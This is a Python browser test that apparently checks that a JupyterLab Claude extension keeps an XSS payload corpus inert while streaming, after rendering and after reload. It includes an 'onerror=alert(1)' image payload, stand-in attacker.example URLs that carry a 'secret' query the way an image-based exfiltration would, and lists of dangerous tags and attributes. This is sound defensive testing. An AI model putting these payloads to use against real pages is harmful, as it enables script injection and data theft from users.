"""Untrusted output in a real browser: the XSS corpus must stay inert in JupyterLab.

Every payload of tests/xss_payloads.txt is streamed (in small chunks, so the re-rendered
Markdown tail passes through many half-finished states) through a real `%%claude` / `Chat`
run against the loopback server, in: answer text, thinking, an unknown block, tool input,
tool names, tool results (str, `_repr_html_`, `_repr_markdown_`), web search results
(title, url, page_age, query, error code), citations (title, url, cited text), HTTP and
mid-stream error messages (card and traceback line) and a retry notice.

Checked in the live widget while it streams, in the static output that replaces it, and
after save + reload (the saved notebook is trusted by JupyterLab, so its HTML is not
sanitised by JupyterLab: only claude_nb's own sanitising stands between payload and page):

- traps: `alert` / `confirm` / `prompt` / `print` replaced in every frame before any page
  script runs, plus `page.on("dialog")`: zero calls;
- network: every request of the browser context is recorded; non-local ones are aborted;
  zero non-local requests, and no local request outside what JupyterLab itself loads
  (a relative `<img src=x>` would hit the Jupyter server);
- DOM: a MutationObserver audits every node inserted into an output area (so transient
  tail states count too) for script-capable or resource-loading markup: zero findings.

`test_remote_images_are_click_to_load` checks the image policy of docs/security.md.
"""

from __future__ import annotations

import importlib.util
import json
import re
import time
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest

pytestmark = pytest.mark.browser


def _payloads() -> list[str]:
    spec = importlib.util.spec_from_file_location(
        "_cnb_sanitize_tests_xss", Path(__file__).parents[1] / "test_sanitize.py")
    module = importlib.util.module_from_spec(spec)  # type: ignore[arg-type]
    spec.loader.exec_module(module)  # type: ignore[union-attr]
    return list(module.PAYLOADS)


PAYLOADS = _payloads()
LOCAL_HOSTS = {"127.0.0.1", "localhost"}
# What JupyterLab itself requests from its server once a notebook is open.
JUPYTER_PATHS = re.compile(r"/(api|lab/api|lab/extensions|static|nbextensions|lsp|kernelspecs)"
                           r"(/|$)|/lab/tree/[\w-]+\.ipynb$|/lab/?$|/favicon")

# Runs in every frame before any page script.
TRAPS = r"""
(() => {
  const topWin = (() => { try { return window.top.document && window.top; } catch (e) { return window; } })();
  const record = (list, text) => {
    const arr = (topWin[list] = topWin[list] || []);
    if (arr.length < 200 && !arr.includes(text)) arr.push(text);
  };
  window.__cnbXss = window.__cnbXss || [];
  window.__cnbDom = window.__cnbDom || [];
  for (const name of ["alert", "confirm", "prompt", "print"]) {
    const trap = function (...args) {
      record("__cnbXss", name + "(" + args.map(String).join(",") + ") in " + location.href);
      return name === "confirm" ? false : null;
    };
    try { Object.defineProperty(window, name, { value: trap, writable: false, configurable: false }); }
    catch (e) { window[name] = trap; }
  }
  if (window !== window.top) record("__cnbXss", "frame created: " + location.href);

  const URL_ATTRS = new Set(["href", "src", "action", "formaction", "xlink:href", "srcset",
    "background", "poster", "data", "srcdoc", "ping", "cite", "longdesc", "lowsrc", "dynsrc",
    "codebase", "manifest", "icon", "imagesrcset"]);
  const BAD_TAGS = new Set(["script", "iframe", "frame", "frameset", "object", "embed",
    "applet", "svg", "math", "link", "meta", "base", "form", "video", "audio", "source",
    "picture", "track", "template", "noscript", "xmp", "select", "textarea", "portal",
    "marquee", "body", "html", "head"]);
  const DATA_IMAGE = /^data:image\/(png|jpeg|gif|webp);base64,[a-z0-9+\/=]+$/i;
  const norm = (v) => String(v).replace(/[\s\u0000-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2060-\u2064\ufeff]/g, "").toLowerCase();

  // Model-derived areas: everything in an output area except claude_nb's widget chrome.
  const inScope = (el) => {
    if (!el.closest(".jp-OutputArea-output")) return false;
    return !el.closest(".cnb-root") || !!el.closest(".cnb-log");
  };
  const describe = (el) => "<" + el.localName + " " + [...el.attributes]
    .map((a) => a.name + '="' + a.value.slice(0, 60) + '"').join(" ") + ">";

  const auditEl = (el, out) => {
    const tag = el.localName;
    const model = el.closest(".cnb-md, .cnb-output-html, pre, .cnb-web-list, .cnb-sources, .cnb-error");
    // JupyterLab's MathJax typesets $...$ found in output text: its own markup is fine,
    // but a link in it must not be live (claude_nb defuses \href / \url targets).
    const typeset = !!el.closest("mjx-container");
    if (BAD_TAGS.has(tag) && !(typeset && tag === "math")) out.push("tag " + describe(el));
    if (tag === "style" && !(el.parentElement && el.parentElement.matches(".cnb-static, .cnb-turn")
                             && el === el.parentElement.firstElementChild)) {
      out.push("style element " + describe(el));
    }
    if (tag === "img" && !DATA_IMAGE.test(el.getAttribute("src") || "")) out.push("img " + describe(el));
    if (tag === "input" && !(el.type === "checkbox" && el.disabled)) out.push("input " + describe(el));
    // the only buttons in the log are the view's own (code tools, approve / deny): the
    // sanitiser drops <button> from model HTML
    const ours = /^cnb-(copy|insert)$|\bcnb-btn\b/.test(el.className) && [...el.attributes]
      .every((a) => /^(type|class|title|aria-label|data-label|data-cnb-(action|id)|disabled)$/.test(a.name));
    if (tag === "button" && !ours) out.push("button " + describe(el));
    if (model && [...el.attributes].some((a) => a.name.startsWith("data-cnb-"))) {
      out.push("forged control " + describe(el));
    }
    for (const a of el.attributes) {
      const name = a.name.toLowerCase();
      const value = norm(a.value);
      if (name.startsWith("on")) out.push("handler " + describe(el));
      else if (name === "style" && /url\(|expression|@import|behavior|binding/.test(value)) {
        out.push("style " + describe(el));
      } else if (URL_ATTRS.has(name)) {
        if (tag === "img" && name === "src" && DATA_IMAGE.test(a.value)) continue;
        if ((tag === "a" || typeset) && name === "href" && (/^(https?|mailto):/.test(value) || value.startsWith("#"))) continue;
        if (tag === "blockquote" && name === "cite") continue;
        out.push("url " + describe(el));
      }
    }
  };
  const auditTree = (node) => {
    if (node.nodeType !== 1 || !node.closest(".jp-OutputArea-output")) return;
    const out = [];
    for (const el of [node, ...node.querySelectorAll("*")]) if (inScope(el)) auditEl(el, out);
    for (const p of out) record("__cnbDom", p);
  };
  window.__cnbAudit = () => {
    const out = [];
    for (const area of document.querySelectorAll(".jp-OutputArea-output")) {
      for (const el of area.querySelectorAll("*")) if (inScope(el)) auditEl(el, out);
    }
    return out;
  };
  const observe = () => {
    new MutationObserver((mutations) => {
      for (const m of mutations) for (const n of m.addedNodes) auditTree(n);
    }).observe(document.documentElement, { childList: true, subtree: true });
  };
  if (document.documentElement) observe();
  else document.addEventListener("readystatechange", observe, { once: true });
})();
"""

SETUP = r'''
import json, os
from claude_nb.loopback import (LoopbackServer, RawBlock, ServerToolUse, Text, Thinking, ToolUse,
                                Turn, WebSearchResult, http_error, text_turn)
P = json.load(open("payloads.json", encoding="utf-8"))
ALL = "\n\n".join(P)
srv = LoopbackServer().start()
os.environ.pop("CLAUDE_NB_BACKEND", None)
os.environ["ANTHROPIC_BASE_URL"] = srv.base_url
os.environ["ANTHROPIC_API_KEY"] = "sk-ant-test-xss-0000000000"
DELAY = 0.001  # between frames: the live tail is re-rendered many times

def corpus_text(note: str = "") -> str:
    """Return the corpus as plain text."""
    return ALL

class Rich:
    def _repr_html_(self):
        return "\n".join(P)
    def _repr_markdown_(self):
        return ALL
    def __repr__(self):
        return "\n".join(P)

class RichMd:
    def _repr_markdown_(self):
        return ALL
    def __repr__(self):
        return "RichMd"

def corpus_html() -> Rich:
    """Return an object with _repr_html_."""
    return Rich()

def corpus_md() -> RichMd:
    """Return an object with _repr_markdown_."""
    return RichMd()

def groups(limit=1500):
    out, cur = [], []
    for p in P:
        if cur and len("\n".join(cur + [p])) > limit:
            out.append("\n".join(cur)); cur = []
        cur.append(p)
    return out + ["\n".join(cur)]
%load_ext claude_nb
print("SETUP_OK", len(P))
'''

ANSWER = r'''
srv.enqueue(Turn(blocks=[Thinking("\n\n".join(reversed(P))), Text(ALL),
                         RawBlock({"type": "future_block", "payloads": P})],
                 chunk=4).stream().with_delay(DELAY))
'''

TOOLS = r'''
srv.enqueue(
    Turn(blocks=[Text("Calling tools.\n\n" + "\n\n".join(P[:40])),
                 ToolUse("corpus_text", {"note": ALL}), ToolUse("corpus_html", {}),
                 ToolUse("corpus_md", {}),
                 ToolUse(P[0][:60], {p: p for p in P}),
                 ToolUse("<img src=x onerror=alert(1)>", {"x": 1})],
         stop_reason="tool_use", chunk=6).stream().with_delay(DELAY),
    Turn(blocks=[Text("Tool results:\n\n" + ALL)], chunk=8).stream().with_delay(DELAY))
'''

WEB = r'''
sid = "srvtoolu_01xssxssxssxssxssxssxss"
results = [{"type": "web_search_result", "title": p, "url": p, "encrypted_content": "e",
            "page_age": p} for p in P]
results.append({"type": "web_search_result", "title": "ok", "encrypted_content": "e",
                "url": "https://attacker.example/?q=secret", "page_age": None})
cites = [{"type": "web_search_result_location", "cited_text": p, "url": p, "title": p,
          "encrypted_index": "i"} for p in P]
cites.append({"type": "web_search_result_location", "cited_text": "x", "title": "t",
              "url": "https://attacker.example/cite", "encrypted_index": "i"})
srv.enqueue(Turn(blocks=[
    ServerToolUse("web_search", {"query": ALL}, id=sid), WebSearchResult(sid, results),
    Text("Found:\n\n" + ALL, citations=cites[:64]), Text(ALL[::-1], citations=cites[64:]),
    ServerToolUse("web_search", {"query": P[5]}, id=sid + "2"),
    WebSearchResult(sid + "2", {"type": "web_search_tool_result_error", "error_code": P[40]}),
], chunk=8, usage={"server_tool_use": {"web_search_requests": 2}}).stream().with_delay(DELAY))
'''

ERRORS = r'''
from claude_nb import Conversation
from claude_nb.frontends.display import stream_live
for i, g in enumerate(groups()):
    if i % 3 == 0:
        srv.enqueue(http_error(400, "invalid_request_error", g))
    elif i % 3 == 1:
        srv.enqueue(text_turn("partial " + g, chunk=5).stream()
                    .error_after(12, "overloaded_error", g))
    else:
        srv.enqueue(http_error(529, "overloaded_error", g, headers={"retry-after": "0"}),
                    text_turn("recovered", chunk=5))
    await stream_live(Conversation().send("error please"))
print("ERRORS_OK")
srv.enqueue(http_error(400, "invalid_request_error", ALL))
'''

CHAT = r'''
from claude_nb.frontends.chat import Chat
srv.enqueue(Turn(blocks=[Thinking(ALL), Text("\n\n".join(reversed(P)))], chunk=5)
            .stream().with_delay(DELAY))
chat = Chat()
display(chat)
chat.send(ALL[:3000])
'''

CELLS = [
    SETUP,
    ANSWER, "%%claude\nShow me the corpus.",
    TOOLS, "%%claude --new --tools corpus_text,corpus_html,corpus_md\nUse the tools.",
    WEB, "%%claude --new --web-search\nSearch the web.",
    ERRORS, "%%claude --new\nThis one fails.",
    CHAT,
]
CLAUDE_CELLS = [i for i, c in enumerate(CELLS) if c.startswith("%%claude")]
CHAT_CELL = len(CELLS) - 1


class Traps:
    """Records dialogs and every request of a browser context; aborts non-local ones."""

    def __init__(self, context: Any, page: Any) -> None:
        self.dialogs: list[str] = []
        self.requests: list[tuple[str, str]] = []  # (resource type, url)
        self.remote: list[str] = []
        context.add_init_script(TRAPS)
        context.route("**/*", self._route)
        page.on("dialog", self._dialog)
        context.on("page", lambda p: p.on("dialog", self._dialog))

    def _dialog(self, dialog: Any) -> None:
        self.dialogs.append(f"{dialog.type}: {dialog.message}")
        dialog.dismiss()

    def _route(self, route: Any) -> None:
        url = route.request.url
        parts = urlsplit(url)
        if parts.scheme in ("http", "https", "ws", "wss") and parts.hostname not in LOCAL_HOSTS:
            self.remote.append(url)
            route.abort()
            return
        self.requests.append((route.request.resource_type, url))
        route.continue_()

    def unexpected_local(self, since: int = 0) -> list[str]:
        return [f"{kind} {url}" for kind, url in self.requests[since:]
                if urlsplit(url).scheme in ("http", "https")
                and not JUPYTER_PATHS.match(urlsplit(url).path)]


def _page_findings(page: Any) -> dict[str, list[str]]:
    return page.evaluate(
        "() => ({xss: window.__cnbXss || [], dom: window.__cnbDom || [],"
        " audit: window.__cnbAudit ? window.__cnbAudit() : ['no auditor']})")


def _assert_clean(lab: Any, traps: Traps, where: str) -> None:
    found = _page_findings(lab.page)
    assert traps.dialogs == [], (where, traps.dialogs)
    assert found["xss"] == [], (where, found["xss"])
    assert traps.remote == [], (where, traps.remote)
    assert found["dom"] == [], (where, found["dom"][:20])
    assert found["audit"] == [], (where, found["audit"][:20])
    assert traps.unexpected_local() == [], (where, traps.unexpected_local())


def _save(lab: Any) -> None:
    lab.page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
    lab.page.wait_for_function("() => !window.jupyterapp.shell.currentWidget.context.model.dirty")


def test_corpus_is_inert_live_static_and_reloaded(jupyter_server: Any, lab: Any) -> None:
    (jupyter_server.root / "payloads.json").write_text(json.dumps(PAYLOADS), encoding="utf-8")
    path = jupyter_server.notebook("xss.ipynb", CELLS)
    traps = Traps(lab.page.context, lab.page)
    t0 = time.monotonic()
    lab.open(path)
    timings: dict[str, float] = {"open": time.monotonic() - t0}

    lab.run_cell(0)
    lab.wait_done()
    assert f"SETUP_OK {len(PAYLOADS)}" in lab.output(0).inner_text()
    audits_while_streaming = 0
    for index in CLAUDE_CELLS:
        t = time.monotonic()
        lab.run_cell(index - 1)
        lab.wait_done()
        lab.run_cell(index)
        view = lab.view(index)
        lab.output(index).locator(".cnb-root, .cnb-static").first.wait_for()
        deadline = time.monotonic() + 60
        while view.count() and time.monotonic() < deadline:  # live: audit as it streams
            audits_while_streaming += 1
            assert _page_findings(lab.page)["audit"] == [], index
            lab.page.wait_for_timeout(150)
        lab.wait_done(timeout=60)
        timings[f"cell {index}"] = time.monotonic() - t
        static = lab.output(index).locator(".cnb-turn.cnb-static")
        static.first.wait_for()
        _assert_clean(lab, traps, f"cell {index} static")

    # the answer's remote images are click-to-open placeholders, never <img>
    answer = lab.output(CLAUDE_CELLS[0])
    assert answer.locator('a.cnb-img[href^="https://attacker.example/"]').count() >= 2
    assert lab.output(CLAUDE_CELLS[0]).locator(".cnb-thinking").count() == 1
    tools = lab.output(CLAUDE_CELLS[1])
    assert tools.locator(".cnb-output-html").count() == 1  # the _repr_html_ result
    assert tools.locator("details.cnb-tool").count() == 5  # (a payload div has the class too)
    web = lab.output(CLAUDE_CELLS[2])
    assert web.locator(".cnb-web-list li").count() == len(PAYLOADS) + 1
    assert web.locator(".cnb-sources").count() >= 1
    failed = lab.output(CLAUDE_CELLS[3])
    assert failed.locator(".cnb-error").count() == 1
    assert "Invalid request (400)" in failed.inner_text()  # in the card, once
    assert failed.inner_text().count("Invalid request (400)") == 1
    errors = lab.output(CLAUDE_CELLS[3] - 1)
    assert errors.locator(".cnb-error").count() >= 3 and "ERRORS_OK" in errors.inner_text()

    # the Chat widget streams the corpus live (its send runs as a task after the cell ends)
    t = time.monotonic()
    lab.run_cell(CHAT_CELL)
    lab.wait_done()
    chat = lab.view(CHAT_CELL)
    chat.locator('[data-cnb-block="r1.user"]').wait_for()
    while not chat.locator('[data-cnb-block="r1.footer"]').count():
        assert _page_findings(lab.page)["audit"] == [], "chat"
        audits_while_streaming += 1
        lab.page.wait_for_timeout(150)
        assert time.monotonic() - t < 60, "chat reply did not finish"
    timings["chat"] = time.monotonic() - t
    assert chat.locator('a.cnb-img[href^="https://attacker.example/"]').count() >= 2
    _assert_clean(lab, traps, "chat")

    # save, reload: JupyterLab trusts the outputs it saved itself, so it won't sanitise them
    t = time.monotonic()
    _save(lab)
    lab.open(path)
    lab.output(CLAUDE_CELLS[-1]).locator(".cnb-turn.cnb-static").first.wait_for()
    lab.view(CHAT_CELL).locator('[data-cnb-block="r1.footer"]').wait_for()
    trusted = lab.page.evaluate(
        "() => window.jupyterapp.shell.currentWidget.content.widgets.map(c => c.model.trusted)")
    assert all(trusted), trusted
    lab.page.wait_for_timeout(1500)  # let anything that would load or fire do so
    timings["save+reload"] = time.monotonic() - t
    _assert_clean(lab, traps, "after reload")
    assert lab.output(CLAUDE_CELLS[0]).locator("a.cnb-img").count() >= 2
    lab.assert_no_console_errors()
    print(f"\n{len(PAYLOADS)} payloads; {audits_while_streaming} DOM audits while streaming; "
          f"{len(traps.requests)} local requests, {len(traps.remote)} remote; "
          + ", ".join(f"{k} {v:.1f} s" for k, v in timings.items()))


IMAGES = r'''
import os
from claude_nb.loopback import LoopbackServer, text_turn
srv = LoopbackServer().start()
os.environ.pop("CLAUDE_NB_BACKEND", None)
os.environ["ANTHROPIC_BASE_URL"] = srv.base_url
os.environ["ANTHROPIC_API_KEY"] = "sk-ant-test-img-0000000000"
srv.enqueue(text_turn("Look: ![chart](https://images.attacker.example/c.png?q=secret)\n\n"
                      "![ref][r]\n\n[r]: https://images.attacker.example/r.png", chunk=3))
%load_ext claude_nb
'''


def test_remote_images_are_click_to_load(jupyter_server: Any, lab: Any) -> None:
    path = jupyter_server.notebook("images.ipynb", [IMAGES, "%%claude\nDraw."])
    traps = Traps(lab.page.context, lab.page)
    lab.open(path)
    lab.run_cell(0)
    lab.wait_done()
    lab.run_cell(1)
    lab.wait_done()
    out = lab.output(1)
    placeholders = out.locator(".cnb-turn a.cnb-img")
    placeholders.first.wait_for()
    assert placeholders.count() == 2
    assert out.locator("img").count() == 0
    href = placeholders.first.get_attribute("href")
    assert href == "https://images.attacker.example/c.png?q=secret"
    assert "chart" in placeholders.first.inner_text()
    lab.page.wait_for_timeout(500)
    assert traps.remote == []  # nothing reached the image host by itself
    with lab.page.context.expect_page():
        placeholders.first.click()  # the user's click opens it (new tab, no referrer)
    deadline = time.monotonic() + 10
    while not traps.remote and time.monotonic() < deadline:
        lab.page.wait_for_timeout(50)
    assert traps.remote == ["https://images.attacker.example/c.png?q=secret"]
    assert traps.dialogs == []
